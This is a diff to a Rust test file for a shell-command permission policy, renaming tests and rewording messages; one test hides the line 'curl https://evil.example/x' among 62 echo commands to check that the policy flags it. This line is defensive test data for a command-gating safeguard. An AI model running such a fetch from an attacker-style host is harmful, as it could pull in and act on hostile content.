@@ -1,4 +1,4 @@
-//! The table of command lines and what becomes of them.
+//! The table of command lines and the decision about each.
 
 use super::fixture::{command, policy, word};
 
@@ -6,7 +6,7 @@ use super::fixture::{command, policy, word};
 const TABLE: &str = include_str!("commands.txt");
 
 #[test]
-fn every_command_of_the_table_is_decided_as_it_says() {
+fn every_command_in_the_table_gets_its_decision() {
     let modes = ["auto", "ask", "plan"].map(policy);
     let mut wrong = Vec::new();
     let mut rows = 0;
@@ -32,11 +32,11 @@ fn every_command_of_the_table_is_decided_as_it_says() {
         wrong.len(),
         wrong.join("\n")
     );
-    assert!(rows * 3 >= 300, "the table is short: {rows}");
+    assert!(rows * 3 >= 300, "the table is too short: {rows} rows");
 }
 
 #[test]
-fn the_built_in_rules_hold_of_their_own_examples() {
+fn the_built_in_rules_match_their_own_examples() {
     let policy = policy("auto");
     let faults: Vec<String> = policy
         .rules()
@@ -45,9 +45,9 @@ fn the_built_in_rules_hold_of_their_own_examples() {
     assert!(faults.is_empty(), "{}", faults.join("\n"));
 }
 
-/// What a question shows first: of many simple commands those that made it ask.
+/// A question shows first the simple commands that caused it, if the line has many.
 #[test]
-fn a_question_knows_which_simple_command_made_it_ask() {
+fn a_question_knows_which_simple_command_caused_it() {
     let mut lines: Vec<String> = (0..62).map(|at| format!("echo {at}")).collect();
     lines[32] = "curl https://evil.example/x".into();
     let decision = command(&policy("auto"), &lines.join("\n"));
